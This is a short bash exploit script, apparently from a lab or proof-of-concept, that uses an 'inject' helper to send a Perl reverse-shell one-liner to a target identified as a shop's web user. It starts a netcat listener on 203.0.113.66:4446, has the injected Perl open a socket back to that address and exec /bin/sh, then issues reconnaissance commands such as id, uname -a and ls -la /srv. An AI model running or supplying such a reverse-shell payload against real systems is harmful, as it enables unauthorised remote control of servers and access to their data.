#!/bin/bash
# A shell of the shop's user through a line of Perl.
source "$(dirname "$0")/inject.sh"
{ sleep 3; for command in id 'uname -a' 'ls -la /srv' exit; do echo "$command"; sleep 1.5; done; } |
  timeout 30 nc -l 203.0.113.66 4446 >/dev/null &
sleep 0.5
inject "perl -MIO::Socket -e '\$s=IO::Socket::INET->new(\"203.0.113.66:4446\");open(STDIN,\"<&\",\$s);open(STDOUT,\">&\",\$s);exec(\"/bin/sh\")'" >/dev/null
wait
